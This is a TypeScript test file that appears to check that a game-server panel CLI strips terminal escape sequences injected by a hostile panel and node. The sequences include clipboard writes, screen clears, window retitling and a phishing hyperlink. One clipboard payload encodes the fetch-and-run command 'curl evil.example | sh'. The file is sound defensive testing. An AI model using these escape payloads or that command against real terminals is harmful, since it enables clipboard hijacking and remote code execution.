/**
 * Issue 11, item 3 (one release is enough: what is checked is how the CLI prints what a panel
 * sends, and the hostile answers are injected whole). A hostile panel and node put terminal
 * escape sequences in a server's name, an account's fields, a file's name, an error's detail,
 * console lines and daemon messages: OSC 52 (sets the clipboard), OSC 0 (retitles the window),
 * their C1 forms, CSI that clears the screen or moves the cursor, a DCS, a terminal reset. The
 * built CLI runs as a process against it (on a pseudo-terminal where the console's colours are
 * at stake); nothing that drives a terminal may come out of any command, on either stream,
 * except SGR colours in `console` on a terminal, and the readable text must still be there.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { SimPanel } from '../../src/sim/types';
import { assertCliBuilt, CliSession } from '../helpers/cli-process';
import { expectNoKey, runAgainst, simEnv } from '../helpers/cli-sim';
import { startTestSim } from '../helpers/sim';
import { hasUtilLinuxScript, runOnTerminal } from './helpers/cli-terminal';
import { startHostileWings, type HostileWings } from './helpers/hostile-wings';

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;
const CLIPBOARD = Buffer.from('curl evil.example | sh').toString('base64');
/** Only whole sequences: once they are removed, `Evil${SEQUENCES}Lobby` reads `EvilLobby`. */
const SEQUENCES = [
  `${ESC}]52;c;${CLIPBOARD}${BEL}`, // OSC 52, BEL-terminated
  `${ESC}]0;pwned${ST}`, // OSC 0, ST-terminated
  `\u009d2;pwned\u009c`, // OSC in its C1 form
  `${ESC}[2J${ESC}[H`, // CSI: clear the screen, cursor home
  `\u009b1A`, // CSI in its C1 form: cursor up
  `${ESC}[?1049h`, // CSI with a private marker: the alternate screen
  `${ESC}P$q"p${ST}`, // DCS (DECRQSS: makes the terminal answer on stdin)
  `${ESC}_apc${ST}`, // APC
].join('');
const NAME = `Evil${SEQUENCES}Lobby`;

// eslint-disable-next-line no-control-regex -- control characters are what is looked for.
const TERMINAL_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/g;
// eslint-disable-next-line no-control-regex -- the one sequence the console keeps on a terminal.
const SGR = /\u001b\[[0-9;:]*m/g;

/** Fails, showing where, when `text` holds a control character (newline aside; SGR too if allowed). */
function expectClean(text: string, what: string, options: { allowSgr?: boolean } = {}): void {
  const checked = options.allowSgr === true ? text.replace(SGR, '') : text;
  const found = [...checked.matchAll(TERMINAL_CONTROL)].map((m) => `U+${(m[0].codePointAt(0) ?? 0).toString(16).padStart(4, '0')} at ${m.index}`);
  expect(found, `${what}: ${JSON.stringify(text.slice(0, 400))}`).toEqual([]);
}

let sim: SimPanel;
let wings: HostileWings | undefined;
let uuid: string;
let identifier: string;
const sessions: CliSession[] = [];

/** The panel's own answer to `path`, as the CLI would get it. */
async function panelAnswer(path: string): Promise<{ data?: Array<{ attributes: Record<string, unknown> }>; attributes?: Record<string, unknown> }> {
  const response = await fetch(`${sim.url}${path}`, { headers: { Authorization: `Bearer ${sim.apiKey}`, Accept: 'application/json' } });
  return (await response.json()) as { data?: Array<{ attributes: Record<string, unknown> }> };
}

/** Every later server list names each server with the sequences inside. */
async function hostileServerList(): Promise<void> {
  const list = await panelAnswer('/api/client');
  for (const server of list.data ?? []) {
    server.attributes.name = NAME;
    server.attributes.description = `About${SEQUENCES}this`;
  }
  sim.control.injectFault({ route: 'GET /api/client', count: 10_000, fault: { type: 'status', status: 200, body: list } });
}

beforeAll(async () => {
  assertCliBuilt();
  sim = await startTestSim({ servers: 2, seed: 11 });
  const first = sim.control.servers()[0];
  if (!first) throw new Error('no server');
  ({ uuid, identifier } = first);
  sim.control.setState(identifier, 'running');
  await hostileServerList();
});

afterEach(async () => {
  for (const s of sessions.splice(0)) s.kill();
  await wings?.close();
  wings = undefined;
});

afterAll(async () => {
  await sim?.close();
});

describe('one-shot commands', () => {
  it.each([
    [['servers'], 'EvilLobby'],
    [['servers', '--json'], 'Lobby'],
    [['status', '<id>'], 'EvilLobby ('],
    [['status', '<id>', '--json'], 'Lobby'],
    [['power', '<id>', 'start'], 'Sent start to EvilLobby'],
  ])('%j prints the name without its sequences', async (template, readable) => {
    const args = template.map((a) => (a === '<id>' ? identifier : a));
    const result = await runAgainst(sim, args);
    expect(result.code, result.stderr).toBe(0);
    expectClean(result.stdout, `${args.join(' ')} stdout`);
    expectClean(result.stderr, `${args.join(' ')} stderr`);
    expect(result.stdout + result.stderr).toContain(readable);
  });

  it('keeps the name exact in --json, as JSON escapes', async () => {
    const result = await runAgainst(sim, ['servers', '--json']);
    const rows = JSON.parse(result.stdout) as Array<{ name: string }>;
    expect(rows.map((r) => r.name)).toEqual([NAME, NAME]);
  });

  it('prints an account whose fields carry sequences without them', async () => {
    const account = await panelAnswer('/api/client/account');
    Object.assign(account.attributes ?? {}, { username: `admin${SEQUENCES}`, first_name: `First${SEQUENCES}`, language: `en${SEQUENCES}` });
    for (const args of [['account'], ['account', '--json']]) {
      sim.control.injectFault({ route: 'GET /api/client/account', fault: { type: 'status', status: 200, body: account } });
      const result = await runAgainst(sim, args);
      expect(result.code, result.stderr).toBe(0);
      expectClean(result.stdout + result.stderr, args.join(' '));
      expect(result.stdout).toContain('admin');
    }
  });

  it('lists a file whose name carries sequences without them', async () => {
    const entry = {
      object: 'file_object',
      attributes: {
        name: `read${SEQUENCES}me.txt`,
        mode: '-rw-r--r--',
        mode_bits: '644',
        size: 12,
        is_file: true,
        is_symlink: false,
        mimetype: 'text/plain',
        created_at: '2024-05-06T08:02:58+00:00',
        modified_at: '2024-05-06T08:02:58+00:00',
      },
    };
    sim.control.injectFault({ route: /\/files\/list$/, fault: { type: 'status', status: 200, body: { object: 'list', data: [entry] } } });
    const result = await runAgainst(sim, ['files', 'ls', identifier]);
    expect(result.code, result.stderr).toBe(0);
    expectClean(result.stdout + result.stderr, 'files ls');
    expect(result.stdout).toContain('readme.txt');
  });

  it('prints an error whose detail carries sequences and C1 controls without them (exit 1)', async () => {
    const detail = `Disk\u0085full${SEQUENCES} on ${ESC}]8;;https://evil.example/login${ST}the node${ESC}]8;;${ST}`;
    sim.control.injectFault({
      route: 'GET /api/client/servers/:server/resources',
      fault: { type: 'status', status: 500, body: { errors: [{ code: 'HttpException', status: '500', detail }] } },
    });
    const result = await runAgainst(sim, ['status', identifier, '--debug']);
    expect(result.code).toBe(1);
    expectClean(result.stdout + result.stderr, 'status with a hostile 500');
    expect(result.stderr).toContain('Disk full on the node');
  });
});

describe('watch', () => {
  it.each([[['watch']], [['watch', '--json']]])('%j prints each state line without the sequences', async (args) => {
    const cli = new CliSession(args, { env: simEnv(sim) });
    sessions.push(cli);
    const line = await cli.waitForLine('stdout', (l) => l.includes(identifier));
    cli.child.kill('SIGINT');
    expect(await cli.exited).toEqual({ code: 0, signal: null });
    expectNoKey(cli.allOutput(), [sim.apiKey]);
    expectClean(cli.allOutput(), args.join(' '));
    expect(line).toContain(args.includes('--json') ? JSON.stringify(NAME).slice(1, 5) : 'EvilLobby');
  });
});

describe('console', () => {
  const colour = `${ESC}[1;31mred alert${ESC}[0m`;

  /** A node whose console lines and daemon messages carry the sequences; the panel points the console at it. */
  async function hostileNode(): Promise<void> {
    wings = await startHostileWings([
      { event: 'console output', args: [`${colour} ${SEQUENCES}after`] },
      { event: 'console output', args: [`clip${ESC}]52;c;${CLIPBOARD}${BEL}board\u0085done`] },
      { event: 'daemon message', args: [`Server marked as running${SEQUENCES}`] },
      { event: 'daemon error', args: [`boom${SEQUENCES}!`] },
    ]);
    sim.control.injectFault({ route: /\/websocket$/, count: 1, fault: { type: 'status', status: 200, body: wings.credentialsFor(uuid) } });
  }

  it('off a terminal, prints console lines and daemon messages with no sequence at all', async () => {
    await hostileNode();
    const result = await runAgainst(sim, ['console', identifier], { stdin: '' });
    expect(result.code, result.stderr).toBe(0);
    expectClean(result.stdout, 'console stdout');
    expectClean(result.stderr, 'console stderr');
    expect(result.stdout).toContain('red alert after');
    expect(result.stdout).toContain('clipboard done');
    expect(result.stderr).toContain('connected to EvilLobby');
    expect(result.stderr).toContain('[daemon] Server marked as running');
    expect(result.stderr).toContain('[daemon error] boom!');
  });

  if (!hasUtilLinuxScript()) console.warn('\n!!! SKIPPED: the console-on-a-terminal spec needs util-linux `script` for a pseudo-terminal.\n');

  it.skipIf(!hasUtilLinuxScript())('on a terminal, keeps the SGR colours and nothing else', async () => {
    await hostileNode();
    const { code, output } = await runOnTerminal(['console', identifier], simEnv(sim));
    expectNoKey(output, [sim.apiKey]);
    expect(code, output).toBe(0);
    const text = output.replace(/\r\n/g, '\n');
    expectClean(text, 'console on a terminal', { allowSgr: true });
    // On a terminal indeed: the colours came through.
    expect(text).toContain(colour);
    expect(text).toContain('clipboard done');
    expect(text).toContain('connected to EvilLobby');
    expect(text).toContain('[daemon error] boom!');
  });
});
